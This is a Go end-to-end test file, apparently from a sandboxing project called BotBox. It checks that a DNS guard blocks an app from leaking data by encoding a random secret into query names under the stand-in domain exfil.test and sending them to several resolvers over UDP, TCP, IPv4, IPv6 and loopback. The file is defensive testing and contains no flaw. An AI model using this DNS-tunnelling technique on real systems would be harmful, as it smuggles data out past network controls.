package e2e

import (
	"net/http"
	"net/netip"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/miekg/dns"

	"github.com/botbox/botbox/test/e2e/internal/wire"
)

// dnsEvents returns the DNS queries the origin's DNS server recorded.
func dnsEvents(evs []wire.Event) []wire.Event {
	var out []wire.Event
	for _, e := range evs {
		if e.Kind == wire.KindDNS {
			out = append(out, e)
		}
	}
	return out
}

// TestDNSGuardContainsExfiltration: with dns_guard and
// BOTBOX_DNS_GUARD_PORT, the app's queries for <random>.exfil.test (TXT, A
// and AAAA; UDP and TCP; to the Pod's resolver, to other resolver
// addresses it picks itself over IPv4 and IPv6, and to loopback
// resolvers) are answered NXDOMAIN inside the Pod and never reach the
// "net" namespace's DNS server, whose own record proves it; an allowed
// name resolves (through the guard, by BotBox's query to the Pod's
// resolver) and the HTTP request to it goes through BotBox. Without the
// guard the same query reaches the DNS server: the leak this closes.
//
// No barrier is needed: the DNS server records a query before it answers
// it, and every query here gets its answer before the record is read, so
// a query that had got out (redirected or not) is in the record.
func TestDNSGuardContainsExfiltration(t *testing.T) {
	t.Parallel()
	t.Run("guard on", func(t *testing.T) {
		p, key := apiKeyPod(t, podConfig{ipv6: true, dnsServer: true, dnsGuard: true})
		resolvers := []netip.AddrPort{
			p.addr4(53),                              // the Pod's resolver (resolv.conf)
			netip.AddrPortFrom(p.netIP4b, 53),        // another address the app picks
			p.addr6(53),                              // over IPv6
			netip.MustParseAddrPort("127.0.0.53:53"), // a loopback resolver address
			netip.MustParseAddrPort("[::1]:53"),
		}
		mark := p.mark(t)
		secret := "exfil-" + randomHex(t, 8)
		for _, r := range resolvers {
			for _, qtype := range []string{"TXT", "A", "AAAA"} {
				for _, tcp := range []bool{false, true} {
					name := secret + "-" + qtype + "-" + strings.ReplaceAll(r.Addr().String(), ":", "-") + ".exfil.test"
					args := []string{"-addr", r.String(), "-name", name, "-qtype", qtype}
					if tcp {
						args = append(args, "-tcp")
					}
					res := p.app(t, "dns", args...)
					if !res.Connected || res.Status != dns.RcodeNameError {
						t.Errorf("%s %s via %s (tcp=%v): connected=%v rcode=%d error=%q, want NXDOMAIN from the guard",
							qtype, name, r, tcp, res.Connected, res.Status, res.Error)
					}
				}
			}
		}
		for _, e := range dnsEvents(p.events(t, mark)) {
			t.Errorf("the DNS server received %q at %s from %s (#%d): a query left the Pod", e.Payload, e.Local, e.Remote, e.Seq)
		}
		for _, e := range p.events(t, mark) {
			if strings.Contains(e.Payload, secret) {
				t.Errorf("the net namespace received %s %q at %s", e.Kind, e.Payload, e.Local)
			}
		}

		// The allowed name resolves, asked by the app anywhere, and its
		// query reaches the DNS server from BotBox (the guard's upstream is
		// the Pod's resolver).
		mark = p.mark(t)
		for _, tc := range []struct {
			resolver netip.AddrPort
			qtype    string
			want     netip.Addr
			tcp      bool
		}{
			{p.addr4(53), "A", p.netIP4, false},
			{netip.AddrPortFrom(p.netIP4b, 53), "A", p.netIP4, true},
			{p.addr6(53), "AAAA", p.netIP6, false},
		} {
			args := []string{"-addr", tc.resolver.String(), "-name", hostAPI, "-qtype", tc.qtype}
			if tc.tcp {
				args = append(args, "-tcp")
			}
			res := p.app(t, "dns", args...)
			if !res.Connected || res.Status != dns.RcodeSuccess || res.Body != tc.want.String() {
				t.Errorf("%s %s via %s: connected=%v rcode=%d answer=%q error=%q, want %s",
					tc.qtype, hostAPI, tc.resolver, res.Connected, res.Status, res.Body, res.Error, tc.want)
			}
		}
		evs := dnsEvents(p.events(t, mark))
		if !slices.ContainsFunc(evs, func(e wire.Event) bool {
			return e.Payload == hostAPI+". A" && e.LocalAddrPort() == p.addr4(53)
		}) {
			t.Errorf("the DNS server did not see the guard's query for %s A at %s: %v", hostAPI, p.addr4(53), describe(evs))
		}
		for _, e := range evs {
			if !strings.HasPrefix(e.Payload, hostAPI+". ") {
				t.Errorf("the DNS server received %q", e.Payload)
			}
		}

		mark = p.mark(t)
		r := p.app(t, "http", "-url", "http://"+hostAPI+"/dns-guard", "-H", "Authorization: Bearer app-own")
		if r.Status != http.StatusOK {
			t.Fatalf("GET http://%s/dns-guard: status %d error %q", hostAPI, r.Status, r.Error)
		}
		if ev := p.httpEvent(t, mark, "/dns-guard"); !slices.Equal(ev.Header["Authorization"], []string{"Bearer " + key}) {
			t.Errorf("origin saw Authorization %q, want the injected key", ev.Header["Authorization"])
		}
	})

	t.Run("init step without the guard: DNS fails closed", func(t *testing.T) {
		p, _ := apiKeyPod(t, podConfig{ipv6: true, dnsServer: true, installEnv: func(*pod) []string {
			return []string{"BOTBOX_DNS_GUARD_PORT=" + strconv.Itoa(dnsGuardPort)}
		}})
		mark := p.mark(t)
		for _, resolver := range []netip.AddrPort{p.addr4(53), p.addr6(53)} {
			for _, tcp := range []bool{false, true} {
				args := []string{"-addr", resolver.String(), "-name", "exfil-" + randomHex(t, 8) + ".exfil.test", "-qtype", "TXT", "-timeout", "2s"}
				if tcp {
					args = append(args, "-tcp")
				}
				if res := p.app(t, "dns", args...); res.Connected {
					t.Errorf("query via %s (tcp=%v) answered (rcode %d) with nothing listening on the guard's port", resolver, tcp, res.Status)
				}
			}
		}
		if evs := dnsEvents(p.events(t, mark)); len(evs) != 0 {
			t.Errorf("the DNS server received %s", describe(evs))
		}
	})

	t.Run("guard off: the query leaves", func(t *testing.T) {
		p, _ := apiKeyPod(t, podConfig{ipv6: true, dnsServer: true})
		for _, tc := range []struct {
			resolver netip.AddrPort
			tcp      bool
		}{{p.addr4(53), false}, {netip.AddrPortFrom(p.netIP4b, 53), true}, {p.addr6(53), false}} {
			mark := p.mark(t)
			name := "exfil-" + randomHex(t, 8) + ".exfil.test"
			args := []string{"-addr", tc.resolver.String(), "-name", name, "-qtype", "TXT"}
			if tc.tcp {
				args = append(args, "-tcp")
			}
			p.app(t, "dns", args...)
			p.waitEvents(t, mark, "query for "+name+" at "+tc.resolver.String(), func(evs []wire.Event) bool {
				return slices.ContainsFunc(evs, func(e wire.Event) bool {
					return e.Kind == wire.KindDNS && e.Payload == name+". TXT" && e.LocalAddrPort() == tc.resolver
				})
			})
		}
		t.Logf("documented: without the DNS guard, any name the app asks reaches a resolver outside the Pod")
	})
}
